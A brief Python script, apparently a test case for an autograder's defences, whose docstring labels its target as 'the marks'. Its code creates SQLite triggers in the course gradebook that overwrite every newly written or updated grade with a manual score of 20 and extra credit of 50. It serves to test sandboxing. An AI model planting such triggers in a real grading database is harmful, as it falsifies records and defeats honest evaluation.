"""aims at: the marks, through a trigger in the gradebook that raises each score as it is written
cell: before tally
worth: 0
"""

import sqlite3

with sqlite3.connect("@COURSE@/gradebook/gradebook.db", timeout=1) as gradebook:
    for event in ("insert", "update of auto_score"):
        gradebook.execute(
            f"create trigger raise_{event[:6]} after {event} on grade begin "
            "update grade set manual_score = 20, extra_credit = 50 where id = new.id; end"
        )
